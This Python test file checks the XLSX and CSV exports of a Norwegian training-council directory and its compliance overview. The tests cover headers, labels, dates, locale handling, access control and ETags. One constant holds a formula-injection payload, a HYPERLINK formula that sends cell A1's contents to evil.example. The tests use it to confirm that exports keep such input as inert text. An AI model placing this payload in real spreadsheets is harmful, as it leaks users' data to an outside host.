"""Spreadsheets for Excel users (README, Spreadsheets): the directory and the compliance overview as
XLSX with Norwegian headers, labels instead of codes, a frozen header row, filters, widths and real
dates; the CSV in a semicolon variant that Norwegian Excel splits into columns, in the reader's
language, its formula escaping kept."""

import asyncio
import csv
import io
from datetime import date, datetime

from openpyxl import load_workbook

from tests.api.test_directory import KARI, staffed
from tests.api.test_seat_walkthroughs import START, Registry, hn_seat, new_person
from tests.tokens import Tokens

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Kari")'


async def with_a_formula(registry: Registry, tokens: Tokens) -> str:
    """Helse Nord's council of anaesthesiology: Kari leads for UNN with Vera as deputy, and someone
    typed a formula as the name of Finnmarkssykehuset's representative."""
    nord = await registry.council(region="helse-nord")
    kari = await registry.appointed(
        nord, hn_seat("unn", "x") | {"person": KARI, "deputy": new_person("Vera Vik")}, tokens.trust("unn")
    )
    await registry.appointed(
        nord,
        hn_seat("finnmarkssykehuset", "x") | {"person": {"name": FORMULA}},
        tokens.trust("finnmarkssykehuset"),
    )
    elected = await registry.elect(
        nord, tokens.regut("helse-nord"), leader=kari["person"]["id"], effective_on=START
    )
    assert elected.status_code == 200, elected.text
    return nord


async def test_the_directory_opens_in_excel_with_norwegian_headers_labels_and_real_dates(
    registry: Registry, tokens: Tokens
) -> None:
    await with_a_formula(registry, tokens)
    response = await registry.client.get("/v1/directory.xlsx", params={"specialty": "anestesiologi"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-language"] == "nb"
    assert 'filename="lis-radskatalog.xlsx"' in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.title == "Rådskatalog"
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[:4] == ("Råd", "Type råd", "Spesialitet", "Region")
    assert "Oppnevnt av" in header
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:R{len(rows)}"
    assert sheet.column_dimensions["A"].width == 44
    by_name = {row[header.index("Representant")]: row for row in rows[1:]}
    kari = by_name["Kari Nordmann"]
    assert kari[header.index("Type råd")] == "Regionalt råd"
    assert kari[header.index("Region")] == "Helse Nord RHF"
    assert kari[header.index("Oppnevnt av")] == "Universitetssykehuset Nord-Norge HF"
    assert kari[header.index("Plass")] == "Medlem"
    assert kari[header.index("Leder")] == "Leder"
    assert kari[header.index("Vararepresentant")] == "Vera Vik"
    starts = header.index("Fra")
    assert kari[starts] == datetime.fromisoformat(START)
    kari_starts = sheet.cell(row=rows.index(kari) + 1, column=starts + 1)
    assert kari_starts.is_date
    assert kari_starts.number_format == "dd.mm.yyyy"
    # A name typed as a formula is text in the workbook: Excel shows it, never runs it.
    assert FORMULA in by_name
    typed = sheet.cell(row=rows.index(by_name[FORMULA]) + 1, column=header.index("Representant") + 1)
    assert typed.data_type == "s"


async def test_the_directory_spreadsheet_in_english_and_format_xlsx_leads_there(
    registry: Registry, tokens: Tokens
) -> None:
    await staffed(registry, tokens)
    english = await registry.client.get(
        "/v1/directory.xlsx", params={"region": "helse-nord"}, headers={"Accept-Language": "en"}
    )
    sheet = load_workbook(io.BytesIO(english.content)).active
    assert sheet is not None
    header = next(sheet.iter_rows(values_only=True))
    assert header[:4] == ("Council", "Kind of council", "Specialty", "Region")
    assert sheet.cell(row=2, column=2).value in (
        "Regional council",
        "Strategic council for LIS education",
        "Working committee",
        "Regional forum for LIS education",
    )
    for asked in ({"format": "xlsx"}, {}):
        moved = await registry.client.get(
            "/v1/directory",
            params={"region": "helse-nord", **asked},
            headers={} if asked else {"Accept": XLSX},
        )
        assert moved.status_code == 303
        assert moved.headers["location"] == "/v1/directory.xlsx?region=helse-nord"


async def test_the_semicolon_csv_splits_into_columns_in_norwegian_excel_and_keeps_formulas_text(
    registry: Registry, tokens: Tokens
) -> None:
    await with_a_formula(registry, tokens)
    for path, params in (
        ("/v1/directory.csv", {"delimiter": "semicolon"}),
        ("/v1/directory", {"format": "csv", "delimiter": "semicolon"}),  # sent to the CSV, delimiter kept
    ):
        response = await registry.client.get(
            path,
            params={"specialty": "anestesiologi", **params},
            headers={"Accept-Language": "nb-NO,nb;q=0.9"},
            follow_redirects=True,
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.content.startswith("\ufeff".encode())
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        assert list(rows[0])[:4] == ["Råd", "Type råd", "Spesialitet", "Region"]
        (kari,) = [r for r in rows if r["Representant"] == "Kari Nordmann"]
        assert kari["Type råd"] == "Regionalt råd"
        assert kari["Oppnevnt av"] == "Universitetssykehuset Nord-Norge HF"
        assert kari["Fra"] == date.fromisoformat(START).strftime("%d.%m.%Y")
        assert [r["Representant"] for r in rows if r["Representant"].startswith("'")] == ["'" + FORMULA]


async def test_without_accept_language_the_csv_keeps_the_columns_programs_read(
    registry: Registry, tokens: Tokens
) -> None:
    """Existing callers: no Accept-Language, the snake_case columns, codes and ISO dates as before."""
    await staffed(registry, tokens)
    response = await registry.client.get("/v1/directory.csv", params={"delimiter": "semicolon"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "council_kind" in rows[0]
    assert "content-language" not in response.headers


async def test_regut_gets_the_compliance_overview_as_a_spreadsheet_with_what_is_missing_in_words(
    registry: Registry, tokens: Tokens
) -> None:
    await staffed(registry, tokens)
    response = await registry.client.get(
        "/v1/compliance.xlsx", params={"region": "helse-nord"}, headers=tokens.regut("helse-nord")
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Råd", "Type råd", "Region", "Status", "Brudd", "Råd", "Venter", "Det som mangler")
    assert sheet.freeze_panes == "A2"
    nord = next(row for row in rows if row[0] == "Regionalt utdanningsråd i anestesiologi, Helse Nord")
    assert nord[2] == "Helse Nord RHF"
    assert nord[3] in ("Brudd", "Råd", "Venter", "I orden")
    refused = await registry.client.get("/v1/compliance.xlsx", headers=tokens.bearer("read"))
    assert refused.status_code == 403


async def test_the_same_data_gives_the_same_workbook_so_it_revalidates(
    registry: Registry, tokens: Tokens
) -> None:
    """A workbook is dated by its data, not by the clock: asked again a second later it is the same
    bytes, so its ETag holds and a revalidation is 304."""
    await staffed(registry, tokens)
    for path, headers in (("/v1/directory.xlsx", {}), ("/v1/compliance.xlsx", tokens.regut("helse-nord"))):
        first = await registry.client.get(path, headers=headers)
        await asyncio.sleep(1.1)
        again = await registry.client.get(path, headers=headers)
        assert again.content == first.content, path
        assert again.headers["etag"] == first.headers["etag"]
        revalidated = await registry.client.get(
            path, headers=headers | {"If-None-Match": first.headers["etag"]}
        )
        assert revalidated.status_code == 304, path
